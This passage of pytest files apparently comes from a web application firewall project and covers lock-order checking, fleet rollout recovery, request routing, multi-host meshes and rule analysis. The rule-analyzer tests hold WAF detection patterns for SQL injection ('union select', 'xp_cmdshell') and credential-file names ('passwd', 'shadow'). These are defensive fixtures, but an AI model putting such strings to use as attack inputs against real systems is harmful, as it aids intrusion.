    names = {r.name for r in THREAD_ROOTS}
    assert {"dispatch", "lane_worker", "confirm_worker", "watchdog",
            "oversized", "shadow", "exporter", "submit"} <= names
    report = run_concheck()
    assert not [f for f in report.findings
                if f.check == "conc.unregistered-thread"
                and not f.suppressed]


def test_static_lock_order_graph_acyclic_and_nonempty():
    report = run_concheck()
    edges = report.meta["lock_order_edges"]
    assert "Batcher._swap_lock -> TenantGuard._lock" in edges
    assert not [f for f in report.findings
                if f.check == "conc.lock-order-cycle"]


def test_baseline_is_small_and_reasoned():
    """Acceptance: a reasoned baseline of at most 8 suppressions, every
    entry carrying a reason."""
    from ingress_plus_tpu.analysis.concheck import BASELINE_PATH
    spec = json.loads(BASELINE_PATH.read_text())
    entries = spec["suppressions"]
    assert 0 < len(entries) <= 8
    assert all(e.get("reason") for e in entries)


# ------------------------------------------------------ CLI surfaces


def test_cli_conc_exits_zero(capsys):
    from ingress_plus_tpu.analysis.__main__ import main
    assert main(["--conc", "--fail-on", "error"]) == 0
    out = capsys.readouterr().out
    assert out.startswith("concheck:")


def test_cli_conc_json_and_sarif(capsys, tmp_path):
    from ingress_plus_tpu.analysis.__main__ import main
    out_path = tmp_path / "conc.json"
    assert main(["--conc", "--format", "json",
                 "--output", str(out_path)]) == 0
    doc = json.loads(out_path.read_text())
    assert doc["tool"] == "concheck"
    assert doc["meta"]["thread_roots"]
    assert doc["meta"]["lock_order_edges"]
    capsys.readouterr()
    assert main(["--conc", "--format", "sarif"]) == 0
    sarif = json.loads(capsys.readouterr().out)
    assert sarif["runs"][0]["tool"]["driver"]["name"] == "concheck"


def test_cli_conc_no_baseline_fails(capsys):
    """Without the baseline the known accepted findings gate — proves
    the error path (and that the analyzer is not trivially clean)."""
    from ingress_plus_tpu.analysis.__main__ import main
    rc = main(["--conc", "--baseline", "none", "--fail-on", "error"])
    capsys.readouterr()
    assert rc == 1


# --------------------------------------------- InstrumentedLock twin


@pytest.fixture
def clean_registry():
    lock_registry.reset()
    yield lock_registry
    lock_registry.reset()


def test_instrumented_lock_records_edges(clean_registry):
    a, b = InstrumentedLock("a"), InstrumentedLock("b")
    with a:
        with b:
            pass
    snap = lock_registry.snapshot()
    assert "a -> b" in snap["edges"]
    assert snap["violation_count"] == 0


def test_instrumented_lock_order_violation(clean_registry):
    a, b = InstrumentedLock("a"), InstrumentedLock("b")
    with a:
        with b:
            pass
    with b:
        with a:
            pass
    snap = lock_registry.snapshot()
    assert snap["violation_count"] >= 1
    assert sorted(snap["violations"][0]["pair"]) == ["a", "b"]


def test_instrumented_lock_contention(clean_registry):
    lk = InstrumentedLock("c")
    lk.acquire()
    t = threading.Thread(target=lambda: (lk.acquire(), lk.release()),
                         daemon=True)
    t.start()
    time.sleep(0.05)
    lk.release()
    t.join(timeout=2)
    assert lock_registry.snapshot()["contended"] >= 1


def test_instrumented_lock_backs_a_condition(clean_registry):
    lk = InstrumentedLock("cond")
    cond = threading.Condition(lk)
    hits = []

    def waiter():
        with cond:
            cond.wait(timeout=2)
            hits.append(1)

    t = threading.Thread(target=waiter, daemon=True)
    t.start()
    time.sleep(0.05)
    with cond:
        cond.notify()
    t.join(timeout=2)
    assert hits == [1]


def test_registry_static_consistency_check(clean_registry):
    a, b = InstrumentedLock("x"), InstrumentedLock("y")
    with b:
        with a:
            pass
    bad = lock_registry.assert_consistent_with(["x -> y"])
    assert bad == ["y -> x"]
    assert lock_registry.assert_consistent_with(["y -> x"]) == []


def test_named_lock_plain_by_default():
    assert isinstance(named_lock("t"), type(threading.Lock()))
    enable_debug_locks(True)
    try:
        assert isinstance(named_lock("t"), InstrumentedLock)
    finally:
        enable_debug_locks(False)


# ------------------------------------- pinned fixes (true positives)


def test_ewma_concurrent_updates_are_serialized():
    """concheck finding: Ewma.update was a bare read-modify-write
    reached from both the dispatch fold and the submit-thread tenant
    windows.  Pinned: concurrent constant-input updates + resets never
    corrupt the value (always None or within the input range)."""
    e = Ewma(alpha=0.5)
    stop = threading.Event()
    errs = []

    def updater():
        try:
            while not stop.is_set():
                v = e.update(10.0)
                assert 0.0 <= v <= 10.0
        except Exception as ex:   # pragma: no cover - the regression
            errs.append(ex)

    def resetter():
        while not stop.is_set():
            e.reset()

    threads = [threading.Thread(target=updater, daemon=True)
               for _ in range(3)] + \
              [threading.Thread(target=resetter, daemon=True)]
    for t in threads:
        t.start()
    time.sleep(0.2)
    stop.set()
    for t in threads:
        t.join(timeout=2)
    assert not errs
    assert e.value is None or 0.0 <= e.value <= 10.0


def test_pipeline_stats_admission_counters_exact():
    """concheck finding: PipelineStats.fail_open/degraded/shed were
    bumped bare from submit threads, the dispatch thread, the oversized
    worker and the watchdog at once (lost updates).  Pinned: the locked
    count_* helpers are exact under contention."""
    from ingress_plus_tpu.models.pipeline import PipelineStats
    st = PipelineStats()
    N, T = 2000, 8

    def bump():
        for _ in range(N):
            st.count_fail_open()
            st.count_degraded()
            st.count_shed("deadline")

    threads = [threading.Thread(target=bump, daemon=True)
               for _ in range(T)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=30)
    assert st.fail_open == N * T
    assert st.degraded == N * T
    assert st.shed["deadline"] == N * T


def test_batcher_stats_submit_counters_exact():
    from ingress_plus_tpu.serve.batcher import BatcherStats
    st = BatcherStats()
    N, T = 2000, 8

    def bump():
        for _ in range(N):
            st.count_submitted()
            st.count_stream_chunk(3)

    threads = [threading.Thread(target=bump, daemon=True)
               for _ in range(T)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=30)
    assert st.submitted == N * T
    assert st.stream_chunks == N * T
    assert st.stream_bytes == 3 * N * T
    snap = st.snapshot()
    assert "_lock" not in snap and snap["submitted"] == N * T


# --------------------------------------------- silent-thread-death


@pytest.mark.filterwarnings(
    "ignore::pytest.PytestUnhandledThreadExceptionWarning")
def test_thread_excepthook_counts_by_family():
    install_thread_excepthook()
    before = thread_uncaught_counts().get("ipt-croaker", 0)

    def die():
        raise RuntimeError("intentional test crash")

    t = threading.Thread(target=die, name="ipt-croaker-7", daemon=True)
    t.start()
    t.join(timeout=2)
    after = thread_uncaught_counts().get("ipt-croaker", 0)
    assert after == before + 1
