"""Fleet control plane (ISSUE 19): node-by-node staged rollout with
the fleet LKG pointer, crash-mid-wave recovery, the retune daemon's
structured-skip ladder, and the fleet fault-matrix scenarios."""

import json

import pytest

from ingress_plus_tpu.compiler.ruleset import compile_ruleset
from ingress_plus_tpu.compiler.seclang import parse_seclang
from ingress_plus_tpu.control.fleetctl import (
    FLEET_CANARY,
    FLEET_IDLE,
    FLEET_LIVE,
    FLEET_LKG_POINTER,
    FleetController,
    HttpFleetNode,
    build_drill_fleet,
    load_fleet_lkg,
)
from ingress_plus_tpu.control.retuned import (
    CYCLE_ERROR,
    SKIP_COOLDOWN,
    SKIP_MIN_INTERVAL,
    SKIP_NO_DRIFT,
    SKIP_NO_PROFILE,
    RetuneDaemon,
)
from ingress_plus_tpu.control.rollout import _DRILL_CANDIDATE
from ingress_plus_tpu.utils.faults import run_fault_matrix


def _teardown(harnesses, front):
    front.stop()
    for h in harnesses:
        h.close()


# --------------------------------------------------- staged fleet wave

def test_fleet_wave_to_live_and_lkg(tmp_path):
    """Happy path: central admission, canary, node-by-node promote,
    fleet LKG advanced with every node's ack."""
    harnesses, front, fleet, _ = build_drill_fleet(
        2, tmp_path, socket_prefix="/tmp/ipt-tfc1")
    try:
        cr = compile_ruleset(parse_seclang(_DRILL_CANDIDATE))
        adm = fleet.begin(ruleset=cr)
        assert adm["ok"], adm
        assert fleet.state == FLEET_CANARY
        assert fleet.drive(deadline_s=60) == FLEET_LIVE
        assert all(n.serving_version == cr.version for n in fleet.nodes)
        assert fleet.acks == {n.name: cr.version for n in fleet.nodes}
        lkg = load_fleet_lkg(tmp_path)
        assert lkg and lkg["version"] == cr.version
        # the journal is terminal — a restart must NOT re-converge
        again = FleetController(fleet.nodes, tmp_path)
        assert again.recover()["recovered"] is False
    finally:
        _teardown(harnesses, front)


def test_fleet_recover_converges_mid_wave_crash(tmp_path):
    """Crash mid-wave: a fresh controller over the same journal + LKG
    dir converges every node back to the fleet LKG before anything
    else happens (the daemon calls recover() at every startup)."""
    harnesses, front, fleet, _ = build_drill_fleet(
        2, tmp_path, socket_prefix="/tmp/ipt-tfc2")
    try:
        incumbent = fleet.nodes[0].serving_version
        cr = compile_ruleset(parse_seclang(_DRILL_CANDIDATE))
        assert fleet.begin(ruleset=cr)["ok"]
        # walk the wave until the canary node is actually mid-ramp,
        # then "crash": drop the controller on the floor
        for _ in range(3):
            fleet.traffic_pump(fleet.nodes[0])
            fleet.poll()
        assert json.loads(fleet.journal_path.read_text())["state"] in (
            FLEET_CANARY, "promoting")
        reborn = FleetController(fleet.nodes, tmp_path)
        rep = reborn.recover()
        assert rep["recovered"] is True
        assert rep["lkg"] == incumbent
        assert all(v == "converged" for v in rep["nodes"].values())
        assert all(n.serving_version == incumbent for n in reborn.nodes)
        assert reborn.state == FLEET_IDLE
        # idempotent: the rewritten journal is terminal now
        assert reborn.recover()["recovered"] is False
    finally:
        _teardown(harnesses, front)


# ---------------------------------------------------- skew tripwires

class _StubNode:
    def __init__(self, name):
        self.name = name


class _StubObs:
    def __init__(self, findings):
        self.findings = findings

    def healthz(self):
        return {"skew_findings": self.findings}


def test_alien_generation_tripwire(tmp_path):
    """A node serving a generation that is neither incumbent nor
    candidate trips the wave even when the fleet majority IS the
    incumbent — the finding's detail names both generations, so only
    the node's OWN generation may decide."""
    def fleet_with(findings):
        f = FleetController([_StubNode("n0"), _StubNode("n1")],
                            tmp_path, observer=_StubObs(findings))
        f.incumbent_version, f.candidate_version = "inc-1", "cand-2"
        return f

    def skew(node, gen, structured=True):
        f = {"kind": "generation_skew", "node": node,
             "detail": "serving pack generation %r; fleet majority "
                       "is %r" % (gen, "inc-1")}
        if structured:
            f["generation"] = gen
        return f

    # majority == incumbent: the alien node must still be flagged
    assert fleet_with([skew("n1", "evil-9")])._check_tripwires() \
        == "alien_generation:n1"
    # detail-only findings (older observers): parse the node's own %r
    assert fleet_with([skew("n1", "evil-9", structured=False)]) \
        ._check_tripwires() == "alien_generation:n1"
    # mid-wave incumbent/candidate split is the plan, not a tripwire
    assert fleet_with([skew("n0", "cand-2")])._check_tripwires() is None
    assert fleet_with([skew("n1", "inc-1")])._check_tripwires() is None


# --------------------------------------------- unreachable HTTP nodes

def test_http_node_unreachable_is_reported_not_raised(tmp_path):
    """A dead node is exactly when the fleet layer acts on it: every
    HttpFleetNode surface degrades to a structured answer, and
    fleet_rollback reports converge_failed instead of aborting
    mid-iteration with URLError."""
    node = HttpFleetNode("nx", "127.0.0.1:1", timeout_s=0.5)
    assert node.serving_version == ""
    assert node.state() == "unreachable"
    assert node.abort("drill") is False
    assert node.converge_to(None, artifact=tmp_path / "x.pack") is False
    assert "unreachable" in node.failure_reason()
    assert node.status_brief()["rollout_state"] == "unreachable"

    (tmp_path / FLEET_LKG_POINTER).write_text(json.dumps(
        {"artifact": "nope.pack", "version": "v1", "acks": {}}))
    fleet = FleetController([node], tmp_path)
    rep = fleet.fleet_rollback("node_dead_drill")
    assert rep["nodes"] == {"nx": "converge_failed"}
    assert json.loads(fleet.journal_path.read_text())["state"] \
        == "rolled_back"


# ------------------------------------------------ retune daemon ladder

class _Obs:
    """Observer twin: scripted /fleet/drift + merged-profile answers."""

    def __init__(self, drift=None, profile=None, err=""):
        self.drift = drift if drift is not None else {}
        self.profile = profile
        self.err = err

    def fleet_drift(self):
        if isinstance(self.drift, Exception):
            raise self.drift
        return self.drift

    def merged_profile(self):
        return self.profile

    def healthz(self):
        return {"merged_profile": {"error": self.err}}


def _daemon(tmp_path, obs, **kw):
    # the fleet is only touched past the profile gate; the ladder
    # tests never get there, so a bare object is an honest stand-in
    return RetuneDaemon(obs, object(), tmp_path, **kw)


def test_daemon_drift_probe(tmp_path):
    def probe(drift):
        return _daemon(tmp_path, _Obs(drift=drift))._drift_reason()

    assert probe({"fleet_went_quiet": [942100, 942440]}) \
        == "fleet_went_quiet:2 rules"
    assert probe({"nodes": {"n0": {"rules": [{"delta": -0.05}]}}}) \
        == "hit_rate_delta:0.0500"
    assert probe({"nodes": {"n0": {"rules": [{"delta": 0.001}]}}}) is None
    assert probe(RuntimeError("aggregator down")) is None


def test_daemon_skips_are_typed_and_journaled(tmp_path):
    obs = _Obs(drift={})
    d = _daemon(tmp_path, obs)
    rec = d.cycle()
    assert rec["result"] == SKIP_NO_DRIFT
    assert d.journal_tail()[-1]["result"] == SKIP_NO_DRIFT

    # actionable drift but the merged profile is degraded away (e.g. a
    # node publishing a newer PROFILE_VERSION): typed skip, not a crash
    obs2 = _Obs(drift={"fleet_went_quiet": [1]}, profile=None,
                err="node n2 profile schema v9 newer than v1")
    rec2 = _daemon(tmp_path, obs2).cycle()
    assert rec2["result"] == SKIP_NO_PROFILE
    assert "newer" in rec2["detail"]
    assert rec2["drift"] == "fleet_went_quiet:1 rules"


def test_daemon_rate_limit_and_cooldown(tmp_path):
    now = [1000.0]
    d = _daemon(tmp_path, _Obs(drift={"fleet_went_quiet": [1]}),
                min_interval_s=600.0, cooldown_s=300.0,
                clock=lambda: now[0])
    # a retune just happened: the limiter holds even under drift
    d._last_retune_at = 900.0
    assert d.cycle()["result"] == SKIP_MIN_INTERVAL
    # force bypasses the limiter AND the drift probe (break-glass) —
    # with no profile it then skips one rung further down the ladder
    rec = d.cycle(force=True)
    assert rec["result"] == SKIP_NO_PROFILE and rec["drift"] == "forced"
    # cooldown after a fleet rollback outranks even force
    d._cooldown_until = now[0] + 200.0
    rec = d.cycle(force=True)
    assert rec["result"] == SKIP_COOLDOWN
    assert "200s left" in rec["detail"]
    now[0] += 201.0
    assert d.cycle(force=True)["result"] != SKIP_COOLDOWN
    assert d.status()["cooldown_left_s"] == 0.0


def test_daemon_cycle_never_raises(tmp_path, monkeypatch):
    d = _daemon(tmp_path, _Obs())
    monkeypatch.setattr(
        d, "_cycle_inner",
        lambda now, force: (_ for _ in ()).throw(RuntimeError("boom")))
    rec = d.cycle()
    assert rec["result"] == CYCLE_ERROR
    assert "RuntimeError: boom" in rec["detail"]
    assert d.journal_tail()[-1]["result"] == CYCLE_ERROR


def test_daemon_journal_bounded(tmp_path):
    d = _daemon(tmp_path, _Obs(drift={}), max_journal_entries=8)
    for _ in range(30):
        d.cycle()
    lines = d.journal_path.read_text().splitlines()
    assert len(lines) <= 8
    assert json.loads(lines[-1])["cycle"] == 30   # newest survives
    # torn/corrupt lines are skipped, not fatal
    with d.journal_path.open("a") as f:
        f.write('{"cycle": 31, "result"')
    tail = d.journal_tail()
    assert tail and tail[-1]["cycle"] == 30


# --------------------------------------------------- fault matrix

@pytest.mark.parametrize("scenario", [
    "fleet_node_kill", "fleet_rollout_node_death",
    "fleet_partition_daemon"])
def test_fleet_fault_matrix_scenario(scenario):
    rep = run_fault_matrix(only=[scenario])
    res = rep["scenarios"][scenario]
    assert res["ok"], res["violations"]
