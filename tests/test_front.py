"""Shared admission front (ISSUE 19, serve/front.py): least-loaded
routing, ejection with backoff + half-open re-admission, the all-down
fail-open path, and the HTTP observability plane."""

import json
import time

import pytest

from ingress_plus_tpu.control.fleetctl import build_drill_fleet
from ingress_plus_tpu.serve.front import (
    DOWN,
    UP,
    BackendNode,
    FrontLoop,
)
from ingress_plus_tpu.utils.faults import _front_wave


# ---------------------------------------------------------- unit layer

def test_backend_parse():
    n = BackendNode.parse("n0=/run/ipt/f0.sock@127.0.0.1:9941")
    assert (n.name, n.socket_path, n.readyz) \
        == ("n0", "/run/ipt/f0.sock", "127.0.0.1:9941")
    bare = BackendNode.parse("n1=/tmp/a.sock")
    assert bare.readyz is None and bare.ready()  # no probe = only UDS gates
    with pytest.raises(ValueError, match="NAME=SOCKET"):
        BackendNode.parse("just-a-socket-path")


def _front3():
    nodes = [BackendNode(name="n%d" % i, socket_path="/tmp/x%d" % i)
             for i in range(3)]
    return FrontLoop(nodes, "/tmp/unused-front.sock"), nodes


def test_pick_is_least_loaded_and_skips_tried():
    front, (a, b, c) = _front3()
    a.inflight, b.inflight, c.inflight = 5, 1, 3
    assert front.pick(set()) is b
    # per-request retry excludes nodes already tried on this request
    assert front.pick({"n1"}) is c
    c.state = DOWN
    assert front.pick({"n1"}) is a
    # every ready node at its inflight cap = shed, loudly counted
    a.inflight = a.inflight_cap
    assert front.pick({"n1"}) is None
    assert front.shed_capacity == 1
    # but a fully-tried fleet is NOT a capacity shed
    shed_before = front.shed_capacity
    assert front.pick({"n0", "n1", "n2"}) is None
    assert front.shed_capacity == shed_before


def test_eject_backoff_and_readmit_counters():
    front, (a, _b, _c) = _front3()
    front.eject(a, "connect_refused")
    assert (a.state, a.eject_reason, a.ejections) \
        == (DOWN, "connect_refused", 1)
    assert a.next_probe > time.monotonic()
    # idempotent: a down node cannot be ejected twice
    front.eject(a, "again")
    assert a.ejections == 1 and a.eject_reason == "connect_refused"
    front._readmit(a)
    assert (a.state, a.eject_reason, a.readmissions) == (UP, "", 1)


def test_route_http_surfaces():
    front, (a, b, c) = _front3()
    code, ctype, body = front.route_http("/metrics")
    assert code == "200 OK" and "text/plain" in ctype
    assert b"ipt_front_nodes_up 3" in body
    assert b'ipt_front_node_up{node="n1"} 1' in body

    code, _, body = front.route_http("/readyz?verbose=1")
    assert code == "200 OK" and json.loads(body)["nodes_up"] == 3
    for n in (a, b, c):
        front.eject(n, "drill")
    code, _, body = front.route_http("/readyz")
    # zero nodes: still answering (fail-open) but advertising 503 so
    # an upstream LB prefers a healthier front
    assert code == "503 Service Unavailable"
    assert json.loads(body) == {"ready": False, "nodes_up": 0}

    _, _, body = front.route_http("/front/nodes")
    rows = json.loads(body)          # the bare list, not a wrapper
    assert [r["name"] for r in rows] == ["n0", "n1", "n2"]
    assert all(r["state"] == DOWN for r in rows)
    assert front.route_http("/nope")[0].startswith("404")


# --------------------------------------------------- integration layer

def test_front_round_trip_kill_and_readmit(tmp_path):
    """One real node behind the front: verdicts round-trip; killing
    the node degrades EXPLICITLY (synthesized fail-open verdicts, no
    lost requests); reviving it re-admits via the half-open canary."""
    harnesses, front, _fleet, _ = build_drill_fleet(
        1, tmp_path, socket_prefix="/tmp/ipt-tfr")
    try:
        violations = []
        _front_wave(front, 16, "warm", violations)
        assert violations == []
        assert front.requests_total >= 16
        assert front.nodes[0].completed >= 16
        assert front.fail_open_front_total == 0

        harnesses[0].kill()
        _front_wave(front, 16, "dark", violations)
        assert violations == []      # exactly one verdict per request
        st = front.status()
        assert st["nodes_up"] == 0
        # every dark-window verdict was the synthesized fail-open one
        assert st["fail_open_front_total"] >= 16
        assert st["all_down_served"] >= 1

        harnesses[0].revive()
        deadline = time.monotonic() + 15
        while time.monotonic() < deadline:
            if front.nodes[0].state == UP:
                break
            time.sleep(0.1)
        assert front.nodes[0].state == UP
        assert front.nodes[0].readmissions >= 1
        _front_wave(front, 16, "back", violations)
        assert violations == []
        assert front.status()["fail_open_front_total"] \
            == st["fail_open_front_total"]   # no fail-open after revive
    finally:
        front.stop()
        for h in harnesses:
            h.close()
