"""Multi-host (DCN) tier: gated init, hybrid mesh fallback, batch slicing,
and a REAL two-process jax.distributed run (test_two_process_dcn_detect)
— two coordinator-connected processes with 4 virtual CPU devices each,
cross-checking global verdicts against the single-device engine.
"""

import os

import jax
import pytest

from ingress_plus_tpu.parallel.dcn import (
    device_duty_summary,
    hybrid_mesh,
    init_distributed,
    local_batch_bounds,
)


def test_init_distributed_noop_single_process(monkeypatch):
    monkeypatch.delenv("JAX_COORDINATOR_ADDRESS", raising=False)
    monkeypatch.delenv("JAX_NUM_PROCESSES", raising=False)
    assert init_distributed() is False  # no coordinator → local mode


def test_init_distributed_rejects_bad_env(monkeypatch):
    # num_processes=1 with an address is still single-process
    monkeypatch.setenv("JAX_COORDINATOR_ADDRESS", "127.0.0.1:1234")
    monkeypatch.setenv("JAX_NUM_PROCESSES", "1")
    assert init_distributed() is False


def test_hybrid_mesh_single_process_fallback():
    mesh = hybrid_mesh(n_model=4)
    assert mesh.axis_names == ("data", "model")
    assert mesh.shape["model"] == 4
    assert mesh.shape["data"] * 4 == len(jax.devices())


def test_local_batch_bounds_single_process():
    mesh = hybrid_mesh(n_model=4)
    start, end = local_batch_bounds(mesh, 64)
    assert (start, end) == (0, 64)  # single process owns everything


def test_local_batch_bounds_divisibility():
    mesh = hybrid_mesh(n_model=4)
    with pytest.raises(ValueError):
        local_batch_bounds(mesh, 63)


def test_two_process_dcn_detect():
    """REAL multi-host: two jax.distributed processes (4 virtual CPU
    devices each) build the hybrid (data=hosts, model=local) mesh, each
    feeds only its own half of the batch (make_global ingestion), the TP
    vote-merge runs host-local, and both processes receive identical
    global verdicts matching a single-device engine bit-for-bit — the
    kind-multi-node analog for the DCN tier (SURVEY.md §2.4 comm
    backend)."""
    import socket as socketmod
    import subprocess
    import sys
    from pathlib import Path

    worker = Path(__file__).parent / "dcn_worker.py"
    s = socketmod.socket()
    s.bind(("localhost", 0))
    port = s.getsockname()[1]
    s.close()
    env = dict(os.environ)
    procs = [subprocess.Popen(
        [sys.executable, str(worker), str(port), str(pid)],
        env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
        text=True) for pid in (0, 1)]
    outs = []
    for p in procs:
        try:
            out, _ = p.communicate(timeout=240)
        except subprocess.TimeoutExpired:
            for q in procs:
                q.kill()
            raise
        outs.append(out)
    for pid, (p, out) in enumerate(zip(procs, outs)):
        if p.returncode != 0 and \
                "aren't implemented on the CPU backend" in out:
            # some jaxlib builds cannot run multiprocess collectives on
            # the CPU backend at all (the device_put equality broadcast
            # raises INVALID_ARGUMENT before the step even runs) — an
            # environment capability gap, not a DCN-plane regression
            pytest.skip("jaxlib CPU backend lacks multiprocess "
                        "computations in this environment")
        assert p.returncode == 0, "worker %d failed:\n%s" % (pid, out)
        assert "DCN DETECT OK" in out, out


def test_duty_summary_shape():
    s = device_duty_summary()
    assert s["process_count"] == 1
    assert s["global_device_count"] == len(jax.devices())
    assert len(s["local_devices"]) >= 1
