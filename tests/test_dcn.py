"""Multi-host (DCN) tier: gated init, hybrid mesh fallback, batch slicing.

True multi-process DCN cannot run in CI (single host); these tests pin the
single-process degradation paths plus the mesh/slice math — the driver's
dryrun_multichip covers the sharded compile itself.
"""

import jax
import pytest

from ingress_plus_tpu.parallel.dcn import (
    device_duty_summary,
    hybrid_mesh,
    init_distributed,
    local_batch_bounds,
)


def test_init_distributed_noop_single_process(monkeypatch):
    monkeypatch.delenv("JAX_COORDINATOR_ADDRESS", raising=False)
    monkeypatch.delenv("JAX_NUM_PROCESSES", raising=False)
    assert init_distributed() is False  # no coordinator → local mode


def test_init_distributed_rejects_bad_env(monkeypatch):
    # num_processes=1 with an address is still single-process
    monkeypatch.setenv("JAX_COORDINATOR_ADDRESS", "127.0.0.1:1234")
    monkeypatch.setenv("JAX_NUM_PROCESSES", "1")
    assert init_distributed() is False


def test_hybrid_mesh_single_process_fallback():
    mesh = hybrid_mesh(n_model=4)
    assert mesh.axis_names == ("data", "model")
    assert mesh.shape["model"] == 4
    assert mesh.shape["data"] * 4 == len(jax.devices())


def test_local_batch_bounds_single_process():
    mesh = hybrid_mesh(n_model=4)
    start, end = local_batch_bounds(mesh, 64)
    assert (start, end) == (0, 64)  # single process owns everything


def test_local_batch_bounds_divisibility():
    mesh = hybrid_mesh(n_model=4)
    with pytest.raises(ValueError):
        local_batch_bounds(mesh, 63)


def test_duty_summary_shape():
    s = device_duty_summary()
    assert s["process_count"] == 1
    assert s["global_device_count"] == len(jax.devices())
    assert len(s["local_devices"]) >= 1
