"""rulecheck static analyzer (ISSUE 2, ingress_plus_tpu/analysis/).

Every check class gets a FAILING synthetic fixture plus a clean
counterpart, and the bundled CRS tree is pinned clean of error-severity
findings (the CI gate contract, docs/ANALYSIS.md)."""

from __future__ import annotations

import json

import pytest

from ingress_plus_tpu.analysis import (
    Baseline,
    BaselineError,
    Finding,
    run_rulecheck,
)
from ingress_plus_tpu.analysis.lanecheck import check_lanes
from ingress_plus_tpu.analysis.prefilter_audit import (
    audit_prefilter,
    certify,
    decode_factors,
    derive_group,
)
from ingress_plus_tpu.analysis.reach import check_reachability
from ingress_plus_tpu.analysis.redos import (
    check_regex_hazards,
    hazards_for_pattern,
)
from ingress_plus_tpu.analysis.scan import scan_tree
from ingress_plus_tpu.analysis.txflow import check_tx_dataflow
from ingress_plus_tpu.compiler.bitap import pack_factors
from ingress_plus_tpu.compiler.regex_ast import parse_regex
from ingress_plus_tpu.compiler.ruleset import RuleMeta, compile_ruleset
from ingress_plus_tpu.compiler.seclang import Rule, parse_seclang


def _checks(findings, severity=None):
    return {f.check for f in findings
            if severity is None or f.severity == severity}


def _meta(op="rx", arg="", targets=("args",), transforms=(), variant=0,
          has_prefilter=False, rid=1000, **confirm_extra):
    rule = Rule(rule_id=rid, operator=op, argument=arg,
                targets=list(targets), transforms=list(transforms))
    confirm = {"op": op, "arg": arg, "transforms": list(transforms),
               "fold": False, "variant": variant,
               "targets": list(targets),
               "raw_targets": ["ARGS"], **confirm_extra}
    return RuleMeta(rule=rule, index=0, variant=variant,
                    has_prefilter=has_prefilter, confirm=confirm)


def _lit(text):
    return tuple(frozenset([b]) for b in text.encode())


# ------------------------------------------------- 1. prefilter audit


def test_prefilter_sound_rule_certifies():
    rules = parse_seclang(
        'SecRule ARGS "@rx (?i)union\\s+select" '
        '"id:1,phase:2,block,severity:CRITICAL,tag:\'attack-sqli\'"')
    cr = compile_ruleset(rules)
    findings = audit_prefilter(cr.rules, cr.tables)
    assert "prefilter.uncertified" not in _checks(findings)
    assert "prefilter.table-corrupt" not in _checks(findings)


def test_prefilter_unsound_factor_flagged():
    """A case-sensitive factor packed for a case-folded rule loses the
    upper-case matches: the audit must refuse to certify it."""
    meta = _meta(op="rx", arg="(?i)select", fold=True)
    meta.has_prefilter = True
    tables = pack_factors([[_lit("select")]], n_rules=1)  # NOT folded
    findings = audit_prefilter([meta], tables)
    assert "prefilter.uncertified" in _checks(findings, "error")


def test_prefilter_non_mandatory_factor_flagged():
    """A factor that only covers ONE alternation branch is not
    mandatory — matches of the other branch escape the prefilter."""
    meta = _meta(op="rx", arg="select|union")
    meta.has_prefilter = True
    tables = pack_factors([[_lit("select")]], n_rules=1)
    findings = audit_prefilter([meta], tables)
    assert "prefilter.uncertified" in _checks(findings, "error")


def test_prefilter_within_factor_flagged():
    """@within inverts containment (variable inside argument): any
    packed factor is unsound — short values escape it."""
    meta = _meta(op="within", arg="HTTP/1.0 HTTP/1.1")
    meta.has_prefilter = True
    tables = pack_factors([[_lit("HTTP/1.0 HTTP/1.1")]], n_rules=1)
    findings = audit_prefilter([meta], tables)
    assert "prefilter.uncertified" in _checks(findings, "error")


def test_prefilter_coverage_gap_flagged():
    """An rx rule with a derivable factor but an empty packed group is
    a coverage gap (missed prefilter power), not an accepted fall-through."""
    meta = _meta(op="rx", arg="xp_cmdshell")
    tables = pack_factors([[]], n_rules=1)
    findings = audit_prefilter([meta], tables)
    assert "prefilter.coverage-gap" in _checks(findings, "warning")


def test_prefilter_confirm_only_reasons_are_info():
    rules = parse_seclang(
        'SecRule ARGS "!@rx ^[a-z]+$" "id:10,phase:2,block"\n'
        'SecRule &ARGS "@eq 0" "id:11,phase:2,block"\n'
        'SecRule REQUEST_METHOD "@rx ^(?:GET|POST)$" "id:12,phase:1,block"\n')
    cr = compile_ruleset(rules)
    findings = audit_prefilter(cr.rules, cr.tables)
    infos = [f for f in findings if f.check == "prefilter.confirm-only"]
    assert {f.rule_id for f in infos} == {10, 11, 12}
    assert all(f.severity == "info" for f in infos)
    assert not _checks(findings, "error")


def test_prefilter_weak_factor_notice():
    meta = _meta(op="rx", arg="[a-z0-9_.]")  # 38 bytes ≈ 2.8 bits
    meta.has_prefilter = True
    tables = pack_factors(
        [[(frozenset(b"abcdefghijklmnopqrstuvwxyz0123456789_."),)]],
        n_rules=1)
    findings = audit_prefilter([meta], tables)
    assert "prefilter.weak-factor" in _checks(findings, "notice")
    assert "prefilter.uncertified" not in _checks(findings)


def test_decode_factors_roundtrip():
    group = [_lit("passwd"), _lit("shadow")]
    tables = pack_factors([group], n_rules=1)
    decoded = decode_factors(tables)
    assert sorted(decoded) == sorted(group)


def test_certify_primitives():
    assert certify(parse_regex("union select"), [_lit("union")])
    assert not certify(parse_regex("union|select"), [_lit("union")])
    assert certify(parse_regex("union|select"),
                   [_lit("union"), _lit("select")])
    assert certify(parse_regex("(?:abc)+"), [_lit("abc")])
    # squash lane: whitespace positions vanish on both sides (the
    # enumerable bounded-whitespace shape the compiler squash-packs)
    assert certify(parse_regex("union\\s{1,4}select"),
                   [_lit("unionselect")], squash=True)
    # …but an unbounded \s+ splits the pattern into runs, so the joined
    # factor is NOT certifiable while the per-run factors are
    assert not certify(parse_regex("union\\s+select"),
                       [_lit("unionselect")], squash=True)
    assert certify(parse_regex("union\\s+select"), [_lit("union")],
                   squash=True)
    assert derive_group(parse_regex("xp_cmdshell")) is not None
    assert derive_group(parse_regex("[a-z]*")) is None


def test_certify_survives_enumeration_overflow():
    """Review finding (round 3): a wide alternation followed by the
    factor-bearing part must not lose the part to the run-cap reset —
    that produced false uncertified errors on sound groups."""
    wide = "|".join("w%03d" % i for i in range(200))
    ast = parse_regex("(?:%s)(?:SELECT|UNION)" % wide)
    assert certify(ast, [_lit("SELECT"), _lit("UNION")])


# --------------------------------------- 2. control-flow reachability


def _scan_text(tmp_path, name, text):
    (tmp_path / name).write_text(text)
    return scan_tree(tmp_path)


def test_flow_dangling_marker_error(tmp_path):
    scans = _scan_text(tmp_path, "a.conf",
        'SecAction "id:900,phase:1,pass,nolog,setvar:tx.pl=1"\n'
